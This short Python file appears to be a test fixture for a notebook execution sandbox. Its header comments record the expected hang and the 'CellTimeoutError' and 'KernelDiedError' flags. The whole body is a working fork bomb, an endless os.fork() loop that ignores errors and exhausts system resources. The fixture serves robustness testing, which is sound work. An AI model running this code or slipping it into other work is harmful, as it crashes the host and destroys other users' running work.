# Starts processes that start processes.
# hangs
# loses: everything
# flagged: double, "CellTimeoutError"
# flagged: double-visible, "KernelDiedError: not run"
# %% double
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
